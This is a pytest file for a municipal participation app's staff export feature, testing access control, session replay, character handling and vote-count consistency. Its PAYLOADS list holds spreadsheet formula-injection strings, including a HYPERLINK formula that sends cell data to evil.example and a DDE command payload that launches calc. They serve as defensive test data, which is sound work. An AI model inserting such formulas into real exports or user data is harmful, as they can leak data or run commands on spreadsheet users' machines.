"""Catalogue AUTHZ-07 and EXP-01..03: who downloads exports, formula payloads, and one snapshot.

The small municipality of tests/exports (`ranked`, `policy_staff`) is reused here.
"""

import csv
import io
import json
import re
import threading
import zipfile
from datetime import datetime
from functools import partial

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from participation.extensions import db
from participation.ideas.models import Idea
from participation.moderation.models import StatusChange
from participation.voting.models import Vote
from tests.helpers import csrf_token, login, post_form
from tests.security.live import request, serve, sign_in

EXPORT = "/exports/top-ideas"
FORM = {"format": "csv", "top": "10", "delimiter": ";", "language": "nl"}

# The catalogue's payloads, exactly (EXP-01), plus the array-formula form (EXP-02).
PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    '=HYPERLINK("https://evil.example/?d="&A2;"klik")',
    "=cmd|' /C calc'!A0",
]
ARRAY_FORMULA = "{=1+1}"  # harmless in CSV, an array formula to spreadsheet writers
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _download(client, **choices):
    response = post_form(client, EXPORT, {**FORM, **choices})
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    return response


def _csv_rows(raw: bytes, delimiter: str = ";") -> list[list[str]]:
    """Data rows of a CSV export (after the ranking note, a blank line and the headers)."""
    text = raw.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))[3:]


# AUTHZ-07 --------------------------------------------------------------------------------


def test_authz_07_only_a_staff_session_downloads_and_nothing_is_cached(
    app, make, policy_staff, ranked
):
    staff = app.test_client()
    login(staff, policy_staff.email)
    form = dict(FORM, csrf_token=csrf_token(staff, EXPORT))
    download = staff.post(EXPORT, data=form)
    assert download.status_code == 200 and b"Busbaan" in download.data
    assert "no-store" in download.headers["Cache-Control"]
    # A fixed file name, never one taken from the request (ASVS 12.3.4).
    assert re.fullmatch(r'attachment; filename="[\w.-]+"', download.headers["Content-Disposition"])

    # Anonymous and a resident: the same URL, with a valid token of their own session.
    # Anonymous visitors are sent to sign in, like on every staff page; nobody gets a file.
    anonymous = app.test_client()
    resident = app.test_client()
    login(resident, make.user().email)
    for client, refused in ((anonymous, 302), (resident, 403)):
        assert client.get(EXPORT).status_code == refused
        own = dict(FORM, csrf_token=csrf_token(client, "/login"))
        response = client.post(EXPORT, data=own)
        assert response.status_code == refused and b"Busbaan" not in response.data

    # The staff's own request replayed after sign-out, with the same cookie jar and token.
    cookie = staff.get_cookie("session").value
    post_form(staff, "/logout")
    replayed = staff.post(EXPORT, data=form)
    assert replayed.status_code in (302, 400, 403) and b"Busbaan" not in replayed.data
    # And from a copy of the old session cookie on another client.
    copy = app.test_client()
    copy.set_cookie("session", cookie)
    replayed = copy.post(EXPORT, data=form)
    assert replayed.status_code in (302, 400, 403) and b"Busbaan" not in replayed.data
    # There are no export ids or files to guess: the file is made on request, never stored.
    for guess in ("/exports/1", "/exports/top-ideas.csv", "/exports/top-ideas/1", "/static/x.csv"):
        assert anonymous.get(guess).status_code == 404


# EXP-01 and EXP-02 -------------------------------------------------------------------------


@pytest.fixture
def payloads(app, make):
    """Every payload as an idea title, an author's name, a theme name and an explanation."""
    theme = make.theme(slug="formules", name="=1+1 thema", position=1)
    ideas = []
    for votes, payload in enumerate(reversed([*PAYLOADS, ARRAY_FORMULA])):
        author = make.user(display_name=payload)
        ideas.append(
            make.idea(theme=theme, author=author, title=payload, body=payload, vote_count=votes)
        )
    with app.app_context():
        db.session.add(
            StatusChange(
                idea_id=ideas[-1].id,
                old_status="submitted",
                new_status="under_consideration",
                explanation='=HYPERLINK("https://evil.example")',
            )
        )
        db.session.commit()
    return ideas


def _stored_titles(app) -> list[str]:
    with app.app_context():
        return db.session.scalars(select(Idea.title).order_by(Idea.vote_count.desc())).all()


def test_exp_01_every_formula_cell_in_the_csv_starts_with_an_apostrophe(
    app, client, policy_staff, payloads
):
    login(client, policy_staff.email)
    for delimiter in (";", ","):
        raw = _download(client, delimiter=delimiter, include_authors="y").data
        rows = _csv_rows(raw, delimiter)
        neutralised = ["'" + payload for payload in PAYLOADS] + [ARRAY_FORMULA]
        assert [row[3] for row in rows] == neutralised
        for row in rows:
            for cell in row:
                if cell.startswith(TRIGGERS) or cell.lstrip().startswith(TRIGGERS):
                    pytest.fail(f"formula cell left as it is: {cell!r}")
        assert [row[-1] for row in rows] == neutralised  # the authors' names
        assert [row[4] for row in rows] == neutralised  # the idea's text
        assert {row[5] for row in rows} == {"'=1+1 thema"}  # the theme's name
        assert rows[0][7] == '\'=HYPERLINK("https://evil.example")'  # the official's answer
    assert _stored_titles(app) == [*PAYLOADS, ARRAY_FORMULA]  # the stored data is unchanged


def test_exp_02_the_xlsx_holds_no_formula_and_every_text_is_a_string(
    app, client, policy_staff, payloads
):
    login(client, policy_staff.email)
    data = _download(client, format="xlsx", include_authors="y").data
    archive = zipfile.ZipFile(io.BytesIO(data))
    sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert sheets
    for name in archive.namelist():
        if name.endswith(".xml"):
            xml = archive.read(name).decode("utf-8")
            assert not re.search(r"<f[\s>/]", xml), name
    workbook = load_workbook(io.BytesIO(data))
    sheet = workbook["=1+1 thema"]
    header = [cell.value for cell in sheet[1]]
    text_columns = [header.index(name) + 1 for name in ("Titel", "Tekst", "Thema", "Indiener")]
    stored = [*PAYLOADS, ARRAY_FORMULA]
    for row in range(2, 2 + len(stored)):
        for column in text_columns:
            assert sheet.cell(row, column).data_type == "s"
    # Every text reads back as typed, the leading carriage return included (&#13;).
    titles = [sheet.cell(row, text_columns[0]).value for row in range(2, 2 + len(stored))]
    assert titles == stored
    assert _stored_titles(app) == stored


# EXP-03 ----------------------------------------------------------------------------------

AWKWARD_TITLES = [
    'Fietspad, "snel" en veilig',
    "Twee regels\nin één titel",
    "Puntkomma; en nog wat",
    "Café, ĳsbaan en crème brûlée",
    "Emoji 🚲🌳 en 👩🏽‍🦽",
    'Alles: , " ; \n é ĳ 🎉',
]


def test_exp_03_awkward_titles_read_back_identically_with_either_delimiter(
    app, client, make, policy_staff
):
    theme = make.theme(slug="lastig", name="Lastige tekens")
    for votes, title in enumerate(reversed(AWKWARD_TITLES)):
        make.idea(theme=theme, title=title, vote_count=votes)
    login(client, policy_staff.email)
    for delimiter in (";", ","):
        raw = _download(client, delimiter=delimiter).data
        assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Dutch Excel reads the accents
        assert [row[3] for row in _csv_rows(raw, delimiter)] == AWKWARD_TITLES
    document = json.loads(_download(client, format="json").data)
    assert [idea["title"] for idea in document["themes"][0]["ideas"]] == AWKWARD_TITLES


def test_exp_03_ties_are_ordered_by_votes_then_submission_then_id(app, client, make, policy_staff):
    theme = make.theme(slug="gelijk", name="Gelijkspel")
    moment = datetime(2026, 3, 1, 9, 0)
    tied = [make.idea(theme=theme, vote_count=3, created_at=moment) for _ in range(4)]
    earlier = make.idea(theme=theme, vote_count=3, created_at=datetime(2026, 2, 1))
    top = make.idea(theme=theme, vote_count=4, created_at=datetime(2026, 4, 1))
    login(client, policy_staff.email)
    expected = [top.id, earlier.id, *sorted(idea.id for idea in tied)]
    for _ in range(3):
        document = json.loads(_download(client, format="json").data)
        assert [idea["idea_id"] for idea in document["themes"][0]["ideas"]] == expected


def test_exp_03_counts_come_from_one_snapshot_while_votes_arrive(app, make, policy_staff):
    """Voters on a real threaded server while staff download again and again."""
    app.config["MAIL_DELIVER_AFTER_REQUEST"] = False
    theme = make.theme(slug="druk", name="Druk thema")
    ideas = [make.idea(theme=theme) for _ in range(5)]
    voters = [make.user() for _ in range(40)]
    residents = [sign_in(app, voter.email) for voter in voters]
    staff = sign_in(app, policy_staff.email)
    done = threading.Event()
    statuses = []

    def vote_all():
        for number, resident in enumerate(residents):
            for idea in ideas[: 1 + number % len(ideas)]:
                statuses.append(request(base, f"/ideas/{idea.id}/vote", resident, {})[0])
        done.set()

    try:
        with serve(app) as base:
            voting = threading.Thread(target=vote_all)
            voting.start()
            exports = []
            download = partial(request, base, EXPORT, staff, {**FORM, "format": "json"})
            while not done.is_set() or not exports:
                status, body = download()
                assert status == 200, body[:300]
                exports.append(json.loads(body))
            voting.join()
            final = json.loads(download()[1])
    finally:
        app.config["MAIL_DELIVER_AFTER_REQUEST"] = True
    assert set(statuses) == {200}
    print(f"\nEXP-03: {len(exports)} exports taken while {len(statuses)} votes arrived")
    previous = {}
    for document in exports:
        (summary,) = document["themes"]
        votes = {idea["idea_id"]: idea["votes"] for idea in summary["ideas"]}
        # One snapshot: the theme's total and its ideas' counts agree with each other ...
        assert summary["votes"] == sum(votes.values())
        # ... and are ranked by those very counts.
        assert [idea["votes"] for idea in summary["ideas"]] == sorted(votes.values(), reverse=True)
        # Counts only grow from one export to the next (votes are never taken back here).
        assert all(votes[i] >= previous.get(i, 0) for i in votes)
        previous = votes
    with app.app_context():
        rows = dict(
            db.session.execute(select(Vote.idea_id, func.count()).group_by(Vote.idea_id)).all()
        )
    (summary,) = final["themes"]
    assert {idea["idea_id"]: idea["votes"] for idea in summary["ideas"]} == rows


def test_exp_03_votes_during_a_streaming_download_do_not_change_it(
    app, client, make, policy_staff, ranked
):
    login(client, policy_staff.email)
    response = post_form(
        client,
        "/exports/top-ideas",
        {"format": "json", "top": "10", "delimiter": ";", "language": "nl"},
        buffered=False,
    )
    assert response.status_code == 200
    chunks = iter(response.response)
    # The first piece is written after the theme totals were read, before any idea row.
    received = [next(chunks)]

    voter = make.user(email="stemmer@example.org")
    statuses = []

    def vote():
        # Another thread, like another visitor's request; the download's context stays apart.
        browser = app.test_client()
        login(browser, voter.email)
        for idea in (ranked["trees"], ranked["bus"], ranked["formula"]):
            statuses.append(post_form(browser, f"/ideas/{idea.id}/vote").status_code)

    thread = threading.Thread(target=vote)
    thread.start()
    thread.join()
    assert statuses == [302, 302, 302]

    received.extend(chunks)
    response.close()
    document = json.loads(b"".join(received))
    green, traffic = document["themes"]
    assert [idea["votes"] for idea in green["ideas"]] == [12, 5, 5, 1]
    assert green["votes"] == sum(idea["votes"] for idea in green["ideas"]) == 23
    assert traffic["ideas"][0]["votes"] == traffic["votes"] == 7

    fresh = post_form(
        client,
        "/exports/top-ideas",
        {"format": "json", "top": "10", "delimiter": ";", "language": "nl"},
    )
    green, traffic = json.loads(fresh.data)["themes"]
    assert green["ideas"][0]["votes"] == 13 and traffic["votes"] == 8
